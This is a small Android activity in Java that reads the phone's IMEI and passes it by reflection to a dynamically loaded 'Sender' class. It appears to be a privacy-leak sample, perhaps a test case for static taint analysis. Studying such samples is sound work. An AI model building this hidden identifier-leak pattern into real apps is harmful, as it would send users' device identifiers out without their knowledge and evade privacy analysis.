package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            Class<?> type = Class.forName("p.Sender");
            Object sender = type.getDeclaredConstructor().newInstance();
            Method send = type.getMethod("send", String.class);
            send.invoke(sender, phone.getImei());
        } catch (ReflectiveOperationException error) {
            finish();
        }
    }
}
